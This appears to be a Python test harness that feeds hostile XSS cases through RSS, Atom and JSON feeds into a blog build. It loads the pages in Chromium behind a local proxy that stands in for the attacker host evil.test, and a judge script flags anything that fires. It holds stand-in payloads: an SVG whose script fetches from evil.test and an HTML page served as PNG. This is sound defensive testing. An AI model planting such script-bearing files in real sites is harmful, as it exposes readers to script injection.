"""The attacker's side of the published-blog tests, shared by the hand-written cases
(test_hostile_site.py) and the fuzzer (hostile_gen.py, test_blog_fuzz.py,
scripts/fuzz_blog.py): hostile cases served as RSS, Atom and JSON Feed, the images a case
links answered by the replay server, the beacon that stands for the attacker's host, and
Chromium loading pages behind it.

A case is a dict as in tests/fixtures/hostile/cases.yaml: `id`, `family`, `html` (EVIL stands
for the attacker's origin), and optionally the entry's `title`, `author`, `tags` and a
`date`; its body is the payload between two benign paragraphs.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape, unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

from conftest import BLOG, BLOG_LOCAL

from browser import CHROMIUM, serve_folder
from feed_replay import RSS, feed_source, feeds_yaml, rss, rss_item
from replay import ReplayServer, Reply, image_bytes
from runner import crawl, fetch

EVIL_HOST = "evil.test"
EVIL = f"http://{EVIL_HOST}"
DATE = "Mon, 27 Sep 2021 23:54:59 GMT"
ISO_DATE = "2021-09-27T23:54:59Z"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/hit/svg-file\')"><script>fetch("http://evil.test/hit/svg-script")</script></svg>'


def body_of(case: dict) -> str:
    """The case's payload between two benign paragraphs that must survive."""
    payload = case["html"].replace("EVIL", EVIL)
    return f"<p>前文{case['id']}</p>{payload}<p>后文{case['id']}</p>"


def title_of(case: dict) -> str:
    return case.get("title") or f"hostile {case['id']}"


def _rss_extras(case: dict) -> str:
    extras = "".join(f"<category>{escape(tag)}</category>" for tag in case.get("tags", ()))
    if case.get("author"):
        extras += f"<dc:creator>{escape(case['author'])}</dc:creator>"
    return extras


def rss_feed(cases: list[dict], title: str = "hostile rss") -> bytes:
    items = [
        rss_item(
            title_of(c),
            c["id"],
            body_of(c),
            date=c.get("date", DATE),
            link=f"https://feeds.test/{c['id']}",
        ).replace("</item>", _rss_extras(c) + "</item>")
        for c in cases
    ]
    xml = rss(title, items)
    if b"<dc:creator>" in xml:
        xml = xml.replace(
            b'<rss version="2.0">',
            b'<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">',
        )
    return xml


def _atom_entry(case: dict) -> str:
    extras = "".join(f'<category term="{escape(tag)}"/>' for tag in case.get("tags", ()))
    if case.get("author"):
        extras += f"<author><name>{escape(case['author'])}</name></author>"
    return (
        f"<entry><title>{escape(title_of(case))}</title><id>urn:hostile:{case['id']}</id>"
        f"<updated>{case.get('iso_date', ISO_DATE)}</updated>"
        f'<link href="https://feeds.test/{case["id"]}"/>{extras}'
        f'<content type="html">{escape(body_of(case))}</content></entry>'
    )


def atom_feed(cases: list[dict], title: str = "hostile atom") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>{escape(title)}</title><id>urn:hostile</id><updated>{ISO_DATE}</updated>"
        f"{''.join(_atom_entry(c) for c in cases)}</feed>"
    ).encode()


def _json_item(case: dict) -> dict:
    item = {
        "id": case["id"],
        "url": f"https://feeds.test/{case['id']}",
        "title": title_of(case),
        "content_html": body_of(case),
        "date_published": case.get("iso_date", ISO_DATE),
    }
    if case.get("author"):
        item["authors"] = [{"name": case["author"]}]
    if case.get("tags"):
        item["tags"] = list(case["tags"])
    return item


def json_feed(cases: list[dict], title: str = "hostile json") -> bytes:
    items = [_json_item(c) for c in cases]
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": title, "items": items}
    return json.dumps(feed).encode()


FORMATS = {
    "rss": (rss_feed, RSS),
    "atom": (atom_feed, {"Content-Type": "application/atom+xml; charset=utf-8"}),
    "json": (json_feed, {"Content-Type": "application/feed+json; charset=utf-8"}),
}


def hostile_images(url: str) -> Reply | None:
    """The replay server's answer for an image a case links: an SVG with script in it, an
    HTML page served as PNG, else a picture."""
    path = urlsplit(url).path
    if path.endswith(".svg"):
        return Reply(200, SVG, {"Content-Type": "image/svg+xml"})
    if path.endswith("fake.png"):
        return Reply(
            200,
            b"<html><script>fetch('/hit/fake')</script></html>",
            {"Content-Type": "image/png"},
        )
    if path.endswith(".png"):
        return Reply(200, image_bytes(url), {"Content-Type": "image/png"})
    return None


class Beacon(ThreadingHTTPServer):
    """The attacker's host as the browser's proxy: records every request that leaves the page
    (nothing leaves the machine), answers images with a picture and anything else empty."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _BeaconHandler)
        self.hits: list[tuple[str, str]] = []  # (url, Accept)
        self.lock = threading.Lock()

    @property
    def proxy(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def start(self) -> Beacon:
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def attacker_hits(self) -> list[tuple[str, str]]:
        """Requests to the attacker's host that are not plain image loads."""
        with self.lock:
            return [
                (url, accept)
                for url, accept in self.hits
                if urlsplit(url).hostname == EVIL_HOST and not accept.startswith("image/")
            ]


class _BeaconHandler(BaseHTTPRequestHandler):
    def log_message(self, format, *args) -> None:
        pass

    def _record(self) -> None:
        with self.server.lock:
            self.server.hits.append((self.path, self.headers.get("Accept", "")))

    def do_GET(self) -> None:
        self._record()
        png = image_bytes(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(png)))
        self.end_headers()
        # a page closed before its picture arrived: recorded all the same
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(png)

    do_POST = do_GET

    def do_CONNECT(self) -> None:
        self._record()
        self.send_response(403)
        self.end_headers()


def load_page(
    url: str, *args: str, proxy: str, profile: Path, budget_ms: int = 3000, timeout: float = 60
) -> str:
    """Chromium's `--dump-dom` of `url` (scripts on, `budget_ms` of virtual time), behind
    `proxy`; a page that takes longer than `timeout` seconds is killed with every process
    Chromium started, and reads as an empty DOM."""
    command = [
        *CHROMIUM,
        f"--user-data-dir={profile}",
        f"--proxy-server={proxy}",
        f"--virtual-time-budget={budget_ms}",
        "--dump-dom",
        *args,
        url,
    ]
    process = subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        start_new_session=True,
    )
    try:
        out, _ = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        return ""
    return out


def load_pages(
    base: str, pages: list[str], *args: str, proxy: str, profiles: Path, **options
) -> list[str]:
    """The DOM of each page below `base`, two Chromiums at a time (a profile per thread: two
    at once on one profile would hand the page to the other's browser)."""

    def load(rel: str) -> str:
        profile = profiles / f"profile-{threading.current_thread().name}"
        return load_page(base + rel, *args, proxy=proxy, profile=profile, **options)

    with ThreadPoolExecutor(max_workers=2) as pool:
        return list(pool.map(load, pages))


# The fuzzer's judge, run in every generated page after the theme's scripts: URL attributes
# whose scheme can run script (as the browser parsed them), the blog's own interface as
# styled (compared across pages), and whether a post's markup covers it.
JUDGE = r"""<script>(function(){
var ATTRS=['href','src','xlink:href','action','formaction','poster','data','background','cite',
'ping','srcset','values','to','from','by'];
var SAFE=/^(https?|mailto):$/, RASTER=/^data:image\/(png|gif|jpe?g|webp)[;,]/i;
var UI=['html','body','#container','#wrap','#header','#banner','#logo','#subtitle','#main-nav',
'#sidebar','.widget-wrap','.widget','.widget-title','#footer','#main'];
var PROPS=['display','visibility','opacity','position','transform','filter','clip-path',
'z-index','color','background-color','background-image','font-size','font-family','top','left'];
var COVER=['#logo','#main-nav','#sidebar .widget','#footer-info','.article-title','.article-meta'];
function note(s){var p=document.createElement('pre');p.className='fuzz-judge';
p.textContent='FUZZJUDGE '+s;document.documentElement.appendChild(p);}
function scheme(v){if(/^\s*$/.test(v))return '';try{var u=new URL(v.trim(),document.baseURI);}
catch(e){return 'unparsable';}if(SAFE.test(u.protocol)||RASTER.test(u.href))return '';
return u.protocol;}
function entry(n){var e=n&&n.closest&&n.closest('.article-entry');
return e?e.textContent.replace(/\s+/g,' ').slice(0,60):'';}
function urls(){document.querySelectorAll('*').forEach(function(el){
for(var a of Array.from(el.attributes)){var n=a.name.toLowerCase();if(ATTRS.indexOf(n)<0)continue;
var parts=n==='srcset'?a.value.split(',').map(function(s){return s.trim().split(/\s+/)[0];})
:/^(values|to|from|by)$/.test(n)?a.value.split(';'):[a.value];
parts.forEach(function(v){var p=scheme(v);if(p)note('scheme '+p+' <'+el.localName+' '+n+'="'
+v.slice(0,200)+'"> in '+entry(el));});}});}
function styles(){UI.forEach(function(s){var el=document.querySelector(s);if(!el)return;
var cs=getComputedStyle(el);note('style '+s+' '+PROPS.map(function(p){
return p+':'+cs.getPropertyValue(p);}).join(';'));});}
function covers(){COVER.forEach(function(s){Array.from(document.querySelectorAll(s)).slice(0,4)
.forEach(function(el){el.scrollIntoView({block:'center'});var r=el.getBoundingClientRect();
if(!r.width||!r.height)return;var hit=document.elementFromPoint(r.left+r.width/2,r.top+r.height/2);
var by=hit&&hit.closest&&hit.closest('.article-entry');
if(by&&!by.contains(el))note('covered '+s+' by '+entry(hit));});});}
function judge(){urls();styles();covers();
var shown=Array.from(document.querySelectorAll('article.article')).map(function(a){
var m=/前文(s\d+c\d+)/.exec(a.textContent);return m?m[1]:'';});
note('articles '+shown.length+' '+shown.join(','));}
window.addEventListener('load',function(){setTimeout(judge,300);});
})();</script>"""
CASE_ID = re.compile(r"s\d+c\d+")
MARKER = re.compile(r"XSSHIT:(s\d+c\d+)")
REPORT = re.compile(r"FUZZJUDGE (\w+) ([^<]*)")


def judge_pages(public: Path) -> list[str]:
    """Every page of the site with the judge in it, and every kept image: what to load."""
    pages = []
    for page in sorted(public.rglob("*.html")):
        if page.relative_to(public).as_posix().startswith("archives/2"):
            continue  # the year's and month's archives repeat archives/ (every post is one day)
        html = page.read_text(encoding="utf-8")
        at = html.rfind("</body>")
        page.write_text(html[:at] + JUDGE + html[at:] if at >= 0 else html + JUDGE, "utf-8")
        pages.append(page.relative_to(public).as_posix())
    images = public / "_posts" / "images"
    if images.is_dir():
        pages += sorted(p.relative_to(public).as_posix() for p in images.rglob("*") if p.is_file())
    return pages


def verdicts(public: Path, pages: list[str], doms: list[str], beacon: Beacon) -> list[dict]:
    """What fired: {`id` (a case, or '?'), `what`}. A request to the attacker that is not a
    plain image load, or that asks for a /hit/ URL; a marker a script wrote; a URL attribute
    whose scheme is not known inert; the blog's interface styled unlike on the other pages, or
    covered by a post; a post gone from a list page."""
    found = []
    with beacon.lock:
        hits = list(beacon.hits)
    for url, accept in hits:
        if urlsplit(url).hostname == EVIL_HOST and (
            "/hit/" in url or not accept.startswith("image/")
        ):
            found.append({"id": _id_in(url), "what": f"beacon: {url} (Accept {accept[:40]})"})
    styles: dict[str, dict[str, list[str]]] = {}
    for rel, dom in zip(pages, doms, strict=True):
        found += [
            {"id": m, "what": f"marker in the DOM of {rel}"} for m in set(MARKER.findall(dom))
        ]
        raw = (
            (public / rel).read_text(encoding="utf-8", errors="replace")
            if rel.endswith(".html")
            else ""
        )
        ids = sorted(set(re.findall(r"前文(s\d+c\d+)", raw)))
        for kind, detail in REPORT.findall(dom):
            detail = unescape(detail)
            if kind == "scheme" or kind == "covered":
                found.append(
                    {"id": _id_in(detail, ids), "what": f"{kind} on {rel}: {detail[:300]}"}
                )
            elif kind == "style":
                styles.setdefault(detail, {}).setdefault(rel, ids)
            elif kind == "articles":
                found += _gone(rel, raw, detail)
    found += _odd_styles(styles)
    return found


def _gone(rel: str, raw: str, detail: str) -> list[dict]:
    """Posts a list page holds but the browser does not show: the post before the first one
    missing cut them off (its excerpt left a comment or raw-text element open)."""
    listed = re.findall(r'class="h-entry article.*?前文(s\d+c\d+)', raw, re.S)
    shown = set(detail.split(" ", 1)[-1].split(","))
    missing = [cid for cid in listed if cid not in shown]
    if not missing:
        return []
    at = listed.index(missing[0])
    leader = listed[at - 1] if at else missing[0]
    return [{"id": leader, "what": f"posts gone from {rel}: {', '.join(missing)}"}]


def _odd_styles(styles: dict[str, dict[str, list[str]]]) -> list[dict]:
    """Interface styles seen on few post pages: the post there styled the blog."""
    by_selector: dict[str, list[tuple[str, dict[str, list[str]]]]] = {}
    for detail, pages in styles.items():
        by_selector.setdefault(detail.split(" ", 1)[0], []).append((detail, pages))
    found = []
    for variants in by_selector.values():
        variants.sort(key=lambda v: -len(v[1]))
        for detail, pages in variants[1:]:
            for rel, ids in pages.items():
                if len(ids) == 1:
                    found.append({"id": ids[0], "what": f"style on {rel}: {detail[:300]}"})
    return found


def _id_in(text: str, fallback: list[str] = ()) -> str:
    ids = CASE_ID.findall(text)
    return ids[0] if ids else ",".join(fallback) or "?"


@dataclass
class Round:
    """One fuzz round: its cases, what fired, and where the time went."""

    cases: list[dict]
    finds: list[dict] = field(default_factory=list)
    pages: int = 0
    seconds: dict[str, float] = field(default_factory=dict)
    failure: str = ""  # a crawl or build that failed as a whole


def make_site(folder: Path) -> Path:
    """A copy of examples/blog with its packages installed from the lockfile (`npm ci`)."""
    site = folder / "blog"
    shutil.copytree(
        BLOG,
        site,
        ignore=lambda d, names: [n for n in names if Path(d) == BLOG and n in BLOG_LOCAL],
    )
    _node(site, "npm", "ci", "--no-audit", "--no-fund", "--loglevel=error")
    return site


def _node(site: Path, *command: str) -> str:
    result = subprocess.run(command, cwd=site, capture_output=True, text=True, timeout=600)
    return "" if result.returncode == 0 else f"{' '.join(command)}: {result.stderr[-2000:]}"


def serve_round(replay: ReplayServer, cases: list[dict], work: Path) -> tuple[Path, list[str]]:
    """The cases as feeds on the replay server: one feed per format and body format (images
    kept in half of them), one feed alone per `feed_title` case (to fetch without
    `--source`); each post a minute older than the one before, so list pages keep their order.
    Returns the feeds.yaml to crawl and the URLs to fetch."""
    dated = []
    for n, case in enumerate(cases):
        when = datetime(2021, 9, 27, 23, 54, tzinfo=UTC) - timedelta(minutes=n)
        dated.append(
            {
                **case,
                "date": format_datetime(when, usegmt=True),
                "iso_date": when.strftime("%Y-%m-%dT%H:%M:%SZ"),
            }
        )
    sources, fetches = [], []
    for kind, (build, headers) in FORMATS.items():
        for body_format in ("html", "markdown"):
            group = [
                c
                for c in dated
                if (c["feed"], c["body_format"]) == (kind, body_format) and "feed_title" not in c
            ]
            if not group:
                continue
            url = f"https://feeds.test/{kind}-{body_format}.feed"
            replay.add(url, Reply(200, build(group), headers))
            kept = (
                {"images": "keep", "rewrite_images": True}
                if (kind == "atom") == (body_format == "markdown")
                else {}
            )
            sources.append(
                feed_source(
                    f"fuzz-{kind}-{body_format}",
                    url,
                    body_format=body_format,
                    author="extracted",
                    tags="keywords",
                    limit=len(group),
                    **kept,
                )
            )
    for case in dated:
        if "feed_title" in case:
            build, headers = FORMATS[case["feed"]]
            url = f"https://feeds.test/alone/{case['id']}.feed"
            replay.add(url, Reply(200, build([case], title=case["feed_title"]), headers))
            fetches.append(url)
    replay.resolver = hostile_images
    return feeds_yaml(work, sources), fetches


def publish(site: Path, replay: ReplayServer, cases: list[dict], work: Path) -> str:
    """Crawl the cases into the site and build it with `npm run build`: what failed, or ''."""
    posts, public = site / "source" / "_posts", site / "public"
    for old in (posts, public, site / "db.json"):
        shutil.rmtree(old, ignore_errors=True) if old.is_dir() else old.unlink(missing_ok=True)
    replay.reset()
    config, fetches = serve_round(replay, cases, work)
    failure = ""
    crawled = crawl(replay, posts, config=config)
    if crawled.returncode != 0:
        failure = f"crawl exit {crawled.returncode}: {crawled.stderr[-2000:]}"
    if fetches:
        fetched = fetch(replay, posts, *fetches, config=config)
        if fetched.returncode != 0:
            failure += f"fetch exit {fetched.returncode}: {fetched.stderr[-2000:]}"
    return failure + _node(site, "npm", "run", "build")


def breakers(
    site: Path, replay: ReplayServer, cases: list[dict], work: Path, failure: str
) -> list[tuple[dict, str]]:
    """The cases that alone make the crawl or the build fail (and how), found by halving."""
    if len(cases) == 1:
        return [(cases[0], failure)]
    found = []
    for part in (cases[: len(cases) // 2], cases[len(cases) // 2 :]):
        if failed := publish(site, replay, part, work):
            found += breakers(site, replay, part, work, failed)
    return found


def _gist(failure: str) -> str:
    lines = [line.strip() for line in failure.splitlines() if line.strip()]
    return next((line for line in lines if "Error" in line), lines[-1] if lines else "")[:300]


def run_round(
    site: Path, replay: ReplayServer, cases: list[dict], work: Path, *, timeout: float = 60
) -> Round:
    """Crawl the cases into the site, build it, load every page in Chromium behind the beacon
    and judge it. A case that breaks the crawl or the build is a find, and is left out."""
    result = Round(cases)
    clock = time.monotonic()
    failure = publish(site, replay, cases, work)
    if failure:
        found = breakers(site, replay, cases, work, failure)
        broken = [case for case, _ in found]
        for case, why in found:
            result.finds.append({"id": case["id"], "what": f"crawl or build fails: {_gist(why)}"})
        result.failure = "" if broken else failure
        failure = publish(site, replay, [c for c in cases if c not in broken], work)
        result.failure += failure
    result.seconds["publish"] = time.monotonic() - clock
    if failure:
        return result
    public = site / "public"
    clock = time.monotonic()
    pages = judge_pages(public)
    beacon, files = Beacon().start(), serve_folder(public)
    try:
        base = f"http://127.0.0.1:{files.server_address[1]}/"
        doms = load_pages(
            base,
            pages,
            "--window-size=1280,1000",
            proxy=beacon.proxy,
            profiles=work,
            budget_ms=2000,
            timeout=timeout,
        )
    finally:
        beacon.shutdown()
        files.shutdown()
    result.pages = len(pages)
    result.seconds["browse"] = time.monotonic() - clock
    result.finds += verdicts(public, pages, doms, beacon)
    return result
